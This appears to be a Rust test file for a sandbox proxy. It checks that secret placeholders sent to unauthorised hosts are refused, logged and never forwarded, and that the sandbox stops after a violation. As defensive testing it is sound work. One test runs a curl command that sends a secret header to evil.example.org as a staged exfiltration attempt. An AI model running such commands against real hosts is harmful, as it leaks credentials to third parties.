//! Values and placeholders in requests to other hosts.

use super::world::World;

const REFUSED: &str = "which may not be sent to this host";
const HINT: &str =
    "hint: to send its value to evil.example.org, add evil.example.org to the hosts of the secret";

/// Requests to a host that the secret is not for.
pub fn requests_with_placeholders_are_refused(world: &World) {
    let tries = world.tries("elsewhere");
    // The server answers, if there is no placeholder.
    tries.has("wrong/none", &["200 evil.example.org saw GET /wrong/none"]);
    let token = "contains the placeholder of the secret `TOKEN`";
    for (what, place) in [
        ("wrong/header", "the header `authorization`"),
        ("wrong/basic", "the Basic credentials in the header `authorization`"),
        ("wrong/cookie", "the header `cookie`"),
        ("wrong/chunks", "the body"),
        ("wrong/query", "the query of the URL"),
        ("wrong/path", "the path of the URL"),
        ("wrong/upgrade", "the header `authorization`"),
        ("wrong/h2", "the header `authorization`"),
    ] {
        tries.has(what, &["msb: ", place, token, REFUSED, HINT]);
    }
    let status = |what: &str| tries.result(what).split(' ').next().unwrap_or_default().to_owned();
    for what in ["wrong/header", "wrong/basic", "wrong/cookie", "wrong/chunks", "wrong/query", "wrong/path"] {
        assert_eq!(status(what), "403", "{what}");
    }
    tries.has("wrong/h2", &["2 403"]);
    // As JSON, where the client asks for it.
    let json = tries.result("wrong/json").strip_prefix("403 ").unwrap_or_default();
    assert!(json.starts_with(r#"{"error":{"#) && json.contains(token), "{json}");
    tries.has("wrong/quiet", &["403 msb: the header `x-key` contains the placeholder of the secret `QUIET`"]);
    tries.has("wrong/other", &["403 msb: ", "the secret `OTHER`"]);
    let paths = ["header", "basic", "cookie", "query", "upgrade", "h2", "quiet", "other"];
    for path in paths {
        world.servers.never_saw(&format!("/wrong/{path}"));
    }
    // Requests are forwarded as they come. The placeholder is not.
    for request in [world.servers.with_path("/wrong/json"), world.servers.with_path("/wrong/chunks")].concat()
    {
        assert!(!request.is_complete && !request.text().contains("$MSB_TOKEN$"), "{request:#?}");
    }

    // With the placeholder, where that is allowed.
    for (path, placeholder) in [("/wrong/passed", "$MSB_PASSED$"), ("/wrong/logs", "sk-other-placeholder")] {
        assert_eq!(world.servers.request(path).header("x-key"), placeholder);
        tries.has(path.trim_start_matches('/'), &["200 "]);
    }

    // Each is logged, but for `block`.
    let refused = "network: refused GET request to evil.example.org: ";
    world.project.wait_for_log(
        "box",
        &[
            &format!("{refused}the header `authorization` {token}, {REFUSED}"),
            &format!("{refused}the query of the URL {token}, {REFUSED}"),
            "refused request to api.example.org: the request is for \"evil.example.org\"",
        ],
    );
    let log = world.project.ok(&["logs", "box", "--source", "system"]);
    assert!(!log.out().contains("QUIET"), "{}", log.out());
    let events = world.project.ok(&["events", "box", "--json"]);
    for secret in ["TOKEN", "QUIET", "OTHER"] {
        let named = format!("\"secret\":\"{secret}\"");
        assert!(events.out().replace(": ", ":").contains(&named), "{named} in {}", events.out());
    }
    requests_for_others(world, &tries);
}

/// Requests whose host is another one than that of their connection.
fn requests_for_others(world: &World, tries: &tests::tries::Tries) {
    for what in ["host/evil", "host/tenant", "host/url"] {
        tries.has(what, &["421 msb: the request is for ", ", but the connection is for "]);
        world.servers.never_saw(&format!("/{what}"));
    }
    tries.has("host/twice", &["400 msb: the request is not valid: it has more than one Host header"]);
    tries.has("host/h2", &["msb: the request is for \"evil.example.org\""]);
    world.servers.never_saw("/host/twice");
    world.servers.never_saw("/host/h2");
    tries.has("tenant", &["403 msb: ", REFUSED]);
    world.servers.never_saw("/tenant");
    tries.has("connect", &["4", " msb: "]);
    // The second request of a connection.
    tries.has("second", &["200 api.example.org saw GET /second/right", " / 421 msb: "]);
    assert!(world.servers.request("/second/right").header("authorization").contains("canary"));
    world.servers.never_saw("/second/wrong");
    // A client that follows a redirection with its credentials.
    let away = world.servers.request("/redirect/away");
    assert!(away.header("authorization").contains("canary"), "{away:#?}");
    tries.has("redirect", &[REFUSED, "403"]);
    world.servers.never_saw("/redirected");
    // The right name at the address of another server, which has no certificate for it.
    let other_server = "the certificate of api.example.org is not trusted: it is for other hosts";
    tries.has("address", &["502 msb: ", other_server]);
    tries.has("resolve", &[other_server, " 502"]);
    world.servers.never_saw("/address");
    world.servers.never_saw("/resolve");
}

/// `block-and-terminate`.
pub fn a_sandbox_is_stopped_for_a_violation(world: &World) {
    let curl = |url: &str| {
        let line = format!("curl -sS -H \"X-Key: $LAST\" {url}");
        world.project.run(&["exec", "last", "--", "sh", "-c", &line])
    };
    let run = curl("https://api.example.org/last/right").ok();
    assert!(run.out().contains("api.example.org saw GET /last/right"), "{}", run.out());
    assert_eq!(world.servers.request("/last/right").header("x-key"), "canary-last-64fe01");
    // Interception opens nothing that the rules deny.
    let denied = curl("https://old.example.org/last/denied");
    assert_ne!(denied.code, 0, "{}", denied.out());
    let stopped = world.project.processes("last").supervisor;
    // It may be stopped before the client ends.
    let _ = curl("https://evil.example.org/last/wrong");
    stopped.wait_for_end();
    world.servers.never_saw("/last/wrong");
    world.servers.never_saw("/last/denied");
    let log = world.project.ok(&["logs", "last", "--source", "system"]);
    assert!(log.out().contains("the secret `LAST`"), "{}", log.out());
    assert!(log.out().contains("the sandbox is stopped"), "{}", log.out());
}
